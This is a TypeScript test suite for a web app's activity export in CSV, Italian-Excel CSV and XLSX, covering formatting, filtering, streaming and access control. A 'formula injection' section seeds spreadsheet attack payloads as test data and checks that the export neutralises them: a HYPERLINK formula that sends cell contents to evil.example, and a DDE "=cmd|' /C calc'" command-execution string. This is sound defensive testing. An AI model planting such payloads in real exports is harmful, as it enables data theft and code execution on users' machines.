import { parse } from 'csv-parse/sync';
import ExcelJS from 'exceljs';
import type request from 'supertest';
import { type ActivityWorld, activityIn, activityWorld, organizationIn } from '../../test/activity-fixtures';
import { createTestApp, type TestApp } from '../../test/test-app';

/** The raw bytes of a response (supertest would decode text and cannot parse xlsx). */
function binary(res: request.Response, callback: (error: Error | null, body: Buffer) => void): void {
  const chunks: Buffer[] = [];
  res.on('data', (chunk: Buffer) => chunks.push(chunk));
  res.on('end', () => callback(null, Buffer.concat(chunks)));
}

describe('activities: export', () => {
  let t: TestApp;
  let w: ActivityWorld;
  const TRICKY_TITLE = 'Incontro "Piazza Ferrarese", via Sparano; secondo rigo\nterzo rigo';

  beforeAll(async () => {
    t = await createTestApp();
    w = await activityWorld(t);
    const org = await organizationIn(t, w.bari, '072006', 'APS Orti, Giardini & Co.');
    await activityIn(t, 'approved', w.innA, w.coord, {
      title: TRICKY_TITLE,
      date: '2026-10-05',
      location: { lat: 41.1253, lon: 16.8667 },
      organizations: [org],
      themes: ['youth', 'legality'],
      participants: { total: 40, citizens: 20, youth: 10, families: 5, ets: 2, businesses: 1, publicStaff: 2 },
      description: '=HYPERLINK("http://example.org")',
    });
    await activityIn(t, 'submitted', w.innA, w.coord, { title: 'Consegnata', date: '2026-10-04', municipality: '072029' });
    await activityIn(t, 'draft', w.innA, w.coord, { title: 'Bozza', date: '2026-10-03' });
  });
  afterAll(() => t.close());

  it('exports RFC 4180 CSV (UTF-8, no BOM) that parses back to the same values', async () => {
    const res = await t.http.get('/api/activities/export?format=csv').set(w.coord.auth).buffer(true).parse(binary).expect(200);
    expect(res.headers['content-type']).toMatch(/^text\/csv; charset=utf-8/);
    expect(res.headers['content-disposition']).toMatch(/^attachment; filename="attivita-\d{4}-\d{2}-\d{2}\.csv"$/);
    // the plain CSV is for programs: codes, whatever the language
    const english = await t.http.get('/api/activities/export?format=csv&lang=en').set(w.coord.auth).expect(200);
    expect(english.text).toBe(res.body.toString('utf8'));
    const body = res.body as Buffer;
    expect(body.subarray(0, 3).equals(Buffer.from([0xef, 0xbb, 0xbf]))).toBe(false);
    const text = body.toString('utf8');
    expect(text.endsWith('\r\n')).toBe(true);
    const rows: Record<string, string>[] = parse(text, { columns: true });
    expect(rows.map((r) => r.title)).toEqual([TRICKY_TITLE, 'Consegnata', 'Bozza']);
    expect(rows[0]).toMatchObject({
      date: '2026-10-05',
      status: 'approved',
      type: 'workshop',
      municipality_istat: '072006',
      municipality: 'Bari',
      social_area_code: 'ATS_BA_BARI',
      social_area: 'Ambito ATS_BA_BARI',
      author: 'Anna Innovatrice',
      duration_minutes: '90',
      participants_total: '40',
      participants_citizens: '20',
      participants_youth: '10',
      participants_families: '5',
      participants_ets: '2',
      participants_businesses: '1',
      participants_public_staff: '2',
      themes: 'youth; legality',
      organizations: 'APS Orti, Giardini & Co.',
      latitude: '41.1253',
      longitude: '16.8667',
      description: `'=HYPERLINK("http://example.org")`,
      internal_notes: 'Nota riservata allo staff.',
      reviewer: 'Cosimo Coordinatore',
    });
    expect(rows[1]).toMatchObject({ municipality_istat: '072029', social_area_code: 'ATS_BA_MOLFETTA', participants_families: '' });
  });

  it('exports csv-it for Italian Excel: BOM, semicolons, decimal comma, dd/mm/yyyy, labels, ISTAT kept, formulas neutralised', async () => {
    const res = await t.http.get('/api/activities/export?format=csv-it').set(w.coord.auth).buffer(true).parse(binary).expect(200);
    expect(res.headers['content-disposition']).toMatch(/^attachment; filename="attivita-\d{4}-\d{2}-\d{2}-excel-it\.csv"$/);
    const body = res.body as Buffer;
    expect(body.subarray(0, 3).equals(Buffer.from([0xef, 0xbb, 0xbf]))).toBe(true);
    const text = body.toString('utf8').slice(1);
    expect(text.split('\r\n')[0].split(';').slice(0, 4)).toEqual(['ID', 'Data', 'Stato', 'Tipo']);
    const rows: Record<string, string>[] = parse(text, { columns: true, delimiter: ';' });
    expect(rows[0]).toMatchObject({
      Titolo: TRICKY_TITLE,
      Data: '05/10/2026',
      // the one guard Excel honours on opening a CSV: the cell shows 072006, not 72006
      'Codice ISTAT comune': '="072006"',
      Stato: 'Approvata',
      Tipo: 'Laboratorio',
      Temi: 'Giovani; Legalità',
      'Totale partecipanti': '40',
      'di cui cittadini': '20',
      Latitudine: '41,1253',
      Longitudine: '16,8667',
      'Organizzazioni coinvolte': 'APS Orti, Giardini & Co.',
      'Registrata da': 'Anna Innovatrice',
      Descrizione: `'=HYPERLINK("http://example.org")`,
    });
    expect(rows[0]['Revisionata il']).toMatch(/^\d{2}\/\d{2}\/\d{4} \d{2}:\d{2}$/);
    expect(rows.map((r) => r.Stato)).toEqual(['Approvata', 'In revisione', 'Bozza']);
    expect(rows[1]['Codice ISTAT comune']).toBe('="072029"');
  });

  it('exports csv-it and xlsx in English when the interface is in English', async () => {
    const csv = await t.http.get('/api/activities/export?format=csv-it&lang=en').set(w.coord.auth).buffer(true).parse(binary).expect(200);
    expect(csv.headers['content-disposition']).toMatch(/^attachment; filename="activities-\d{4}-\d{2}-\d{2}-excel-it\.csv"$/);
    const rows: Record<string, string>[] = parse((csv.body as Buffer).toString('utf8').slice(1), { columns: true, delimiter: ';' });
    expect(rows[0]).toMatchObject({ Status: 'Approved', Type: 'Workshop', Themes: 'Youth; Legality', 'Logged by': 'Anna Innovatrice' });
    expect(rows[0]['Municipality ISTAT code']).toBe('="072006"');
    const xlsx = await t.http.get('/api/activities/export?format=xlsx&lang=en').set(w.coord.auth).buffer(true).parse(binary).expect(200);
    expect(xlsx.headers['content-disposition']).toMatch(/^attachment; filename="activities-\d{4}-\d{2}-\d{2}\.xlsx"$/);
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(Uint8Array.from(xlsx.body as Buffer).buffer as ExcelJS.Buffer);
    const sheet = workbook.worksheets[0];
    expect(sheet.name).toBe('Activities');
    const header = (sheet.getRow(1).values as unknown[]).slice(1);
    expect(sheet.getRow(2).getCell(header.indexOf('Status') + 1).value).toBe('Approved');
    // an unknown language is refused, like any bad parameter
    const bad = await t.http.get('/api/activities/export?format=xlsx&lang=fr').set(w.coord.auth).expect(400);
    expect(bad.body.details[0].field).toBe('lang');
  });

  it('exports xlsx that exceljs opens, with real dates and numbers', async () => {
    const res = await t.http.get('/api/activities/export?format=xlsx').set(w.coord.auth).buffer(true).parse(binary).expect(200);
    expect(res.headers['content-type']).toBe('application/vnd.openxmlformats-officedocument.spreadsheetml.sheet');
    expect(res.headers['content-disposition']).toMatch(/filename="attivita-\d{4}-\d{2}-\d{2}\.xlsx"/);
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(Uint8Array.from(res.body as Buffer).buffer as ExcelJS.Buffer);
    const sheet = workbook.worksheets[0];
    expect(sheet.rowCount).toBe(4);
    const header = (sheet.getRow(1).values as unknown[]).slice(1);
    const col = (name: string) => header.indexOf(name) + 1;
    const first = sheet.getRow(2);
    expect(first.getCell(col('Titolo')).value).toBe(TRICKY_TITLE);
    expect(first.getCell(col('Data')).value).toEqual(new Date(Date.UTC(2026, 9, 5)));
    expect(first.getCell(col('Totale partecipanti')).value).toBe(40);
    expect(first.getCell(col('Latitudine')).value).toBe(41.1253);
    expect(first.getCell(col('Stato')).value).toBe('Approvata');
    expect(first.getCell(col('Tipo')).value).toBe('Laboratorio');
    expect(first.getCell(col('Temi')).value).toBe('Giovani; Legalità');
    // the ISTAT code stays text: a string cell in the text format, so Excel never makes it 72006
    const istat = first.getCell(col('Codice ISTAT comune'));
    expect(istat.value).toBe('072006');
    expect(istat.type).toBe(ExcelJS.ValueType.String);
    expect(istat.numFmt).toBe('@');
    expect(sheet.getRow(3).getCell(col('Codice ISTAT comune')).value).toBe('072029');
    // filter buttons over the header and every row, the header frozen
    expect(sheet.autoFilter).toBe(`A1:${sheet.getColumn(header.length).letter}4`);
    expect(sheet.views[0]).toMatchObject({ state: 'frozen', ySplit: 1 });
    expect(sheet.getRow(1).font).toMatchObject({ bold: true });
    // a string cell, which Excel never evaluates: written as it is
    expect(first.getCell(col('Descrizione')).value).toBe('=HYPERLINK("http://example.org")');
    expect(first.getCell(col('Descrizione')).type).toBe(ExcelJS.ValueType.String);
    expect(sheet.getRow(4).getCell(col('Titolo')).value).toBe('Bozza');
  });

  it('exports the filtered list only, in the requested order', async () => {
    const res = await t.http.get('/api/activities/export?format=csv&status=approved').set(w.coord.auth).expect(200);
    expect((parse(res.text, { columns: true }) as Record<string, string>[]).map((r) => r.title)).toEqual([TRICKY_TITLE]);
    const asc = await t.http.get('/api/activities/export?format=csv&sort=date').set(w.coord.auth).expect(200);
    expect((parse(asc.text, { columns: true }) as Record<string, string>[]).map((r) => r.title)).toEqual([
      'Bozza',
      'Consegnata',
      TRICKY_TITLE,
    ]);
  });

  it('exports text, theme and organization filters (collected first) like the list', async () => {
    const titles = async (query: string) => {
      const res = await t.http.get(`/api/activities/export?format=csv&${query}`).set(w.coord.auth).expect(200);
      return (parse(res.text, { columns: true }) as Record<string, string>[]).map((r) => r.title);
    };
    expect(await titles('theme=legality')).toEqual([TRICKY_TITLE]);
    expect(await titles(`q=${encodeURIComponent('piazza ferrarese')}`)).toEqual([TRICKY_TITLE]);
    expect(await titles('q=giovinazzo')).toEqual([]);
    const list = await t.http.get('/api/activities?q=consegnata').set(w.coord.auth).expect(200);
    expect(await titles('q=consegnata')).toEqual(list.body.items.map((i: { title: string }) => i.title));
  });

  it('defaults to csv and refuses an unknown format or filter with 400', async () => {
    const res = await t.http.get('/api/activities/export').set(w.coord.auth).expect(200);
    expect(res.headers['content-type']).toMatch(/^text\/csv/);
    const bad = await t.http.get('/api/activities/export?format=pdf').set(w.coord.auth).expect(400);
    expect(bad.body.details[0].field).toBe('format');
    await t.http.get('/api/activities/export?from=yesterday').set(w.coord.auth).expect(400);
  });

  it('streams thousands of rows in batches, every row once, in order', async () => {
    const n = 2_345;
    await t.db.query(
      `INSERT INTO activities (tenant_id, client_id, client_hash, author_id, municipality_id, date, duration_minutes, type, title,
                               participants_total, status, submitted_at, submitted_by, reviewed_at, reviewed_by)
       SELECT $1, gen_random_uuid(), 'bulk', $2, $3, DATE '2024-01-01' + (g % 200), 60, 'meeting', 'Bulk ' || g, 3,
              'approved', now(), $2, now(), $4
         FROM generate_series(1, $5::int) g`,
      [w.bari.id, w.innC.id, w.bari.municipalities['072020'], w.coord.id, n],
    );
    const res = await t.http.get('/api/activities/export?format=csv&municipality=072020').set(w.coord.auth).expect(200);
    const rows: Record<string, string>[] = parse(res.text, { columns: true });
    expect(rows).toHaveLength(n);
    expect(new Set(rows.map((r) => r.id)).size).toBe(n);
    const keys = rows.map((r) => `${r.date}|${r.id}`);
    expect(keys).toEqual([...keys].sort().reverse());
    // a municipality user of Bari sees none of them
    const muni = await t.http.get('/api/activities/export?format=csv&municipality=072020').set(w.muniBari.auth).expect(200);
    expect(parse(muni.text, { columns: true })).toEqual([]);
  });

  it('gives municipality users approved activities only, without internal notes or review columns', async () => {
    const res = await t.http.get('/api/activities/export?format=xlsx').set(w.muniBari.auth).buffer(true).parse(binary).expect(200);
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(Uint8Array.from(res.body as Buffer).buffer as ExcelJS.Buffer);
    const sheet = workbook.worksheets[0];
    const header = (sheet.getRow(1).values as unknown[]).slice(1);
    expect(header).not.toContain('Note interne');
    expect(header).not.toContain('Commento della revisione');
    expect(sheet.rowCount).toBe(2);
    expect(sheet.getRow(2).getCell(header.indexOf('Stato') + 1).value).toBe('Approvata');
  });

  describe('formula injection', () => {
    /** Texts a spreadsheet would run, in every kind of text column: the activity's, the author's name, an organization's name. */
    const HOSTILE = {
      title: '=HYPERLINK("http://evil.example/?x="&A1,"Apri")',
      description: '+39 080 5550101',
      outcomes: '-2+3',
      followUps: '@SUM(A1:A9)',
      internalNotes: '=1+1', // a leading tab would be trimmed by the DTO (the unit test covers tab and CR)
    };
    let innovatorId: string;

    beforeAll(async () => {
      const author = await t.factory.user({
        role: 'innovator',
        tenant: w.bari,
        municipalities: ['072006'],
        fullName: "=cmd|' /C calc'!A0",
      });
      innovatorId = author.id;
      const org = await organizationIn(t, w.bari, '072006', "@Associazione 'Nduja");
      const signedIn = { ...author, token: '', auth: { Authorization: `Bearer ${await t.factory.token(author)}` } };
      await activityIn(t, 'approved', signedIn, w.coord, { ...HOSTILE, organizations: [org], date: '2026-09-01' });
    });

    const exported = async (format: 'csv' | 'csv-it') => {
      const res = await t.http
        .get(`/api/activities/export?format=${format}&innovator=${innovatorId}`)
        .set(w.coord.auth)
        .buffer(true)
        .parse(binary)
        .expect(200);
      const text = (res.body as Buffer).toString('utf8').replace(/^\uFEFF/, '');
      const rows: Record<string, string>[] = parse(text, { columns: true, delimiter: format === 'csv' ? ',' : ';' });
      expect(rows).toHaveLength(1);
      return rows[0];
    };

    it.each(['csv', 'csv-it'] as const)(
      'neutralises every text cell that would run as a formula in %s, and nothing else',
      async (format) => {
        const row = await exported(format);
        const names =
          format === 'csv'
            ? { title: 'title', description: 'description', outcomes: 'outcomes', followUps: 'follow_ups', internalNotes: 'internal_notes' }
            : {
                title: 'Titolo',
                description: 'Descrizione',
                outcomes: 'Esiti',
                followUps: 'Prossimi passi',
                internalNotes: 'Note interne',
              };
        for (const [key, column] of Object.entries(names)) expect(row[column]).toBe(`'${HOSTILE[key as keyof typeof HOSTILE]}`);
        expect(row[format === 'csv' ? 'author' : 'Registrata da']).toBe(`'=cmd|' /C calc'!A0`);
        expect(row[format === 'csv' ? 'organizations' : 'Organizzazioni coinvolte']).toBe(`'@Associazione 'Nduja`);
        // no cell of the row starts as a formula but csv-it's ISTAT guard, which is digits only; numbers and dates are untouched
        const istat = format === 'csv' ? 'municipality_istat' : 'Codice ISTAT comune';
        expect(row[istat]).toBe(format === 'csv' ? '072006' : '="072006"');
        const others = Object.entries(row).filter(([column]) => column !== istat);
        expect(others.filter(([, cell]) => /^[=+\-@\t\r]/.test(cell))).toEqual([]);
        expect(row[format === 'csv' ? 'date' : 'Data']).toBe(format === 'csv' ? '2026-09-01' : '01/09/2026');
        expect(row[format === 'csv' ? 'participants_total' : 'Totale partecipanti']).toBe('25');
      },
    );
  });
});
